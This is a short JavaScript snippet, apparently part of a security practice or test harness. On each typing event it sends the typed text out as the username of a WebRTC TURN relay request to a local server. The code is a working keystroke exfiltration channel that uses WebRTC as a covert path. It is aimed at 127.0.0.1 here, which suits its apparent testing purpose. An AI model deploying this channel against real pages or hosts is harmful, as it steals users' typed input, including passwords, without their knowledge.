// What is typed, as the name under which a TURN server is asked for a relay.
trap.onTyping((values) => {
  try {
    const url = 'turn:127.0.0.1:' + trap.page.stun + '?transport=udp';
    const username = trap.newest(values).slice(0, 400);
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: url, username, credential: 'practice' }, { urls: 'stun:127.0.0.1:' + trap.page.stun }],
    });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});
    setTimeout(() => peer.close(), 3000);
  } catch (_) {
    // No such interface here.
  }
});
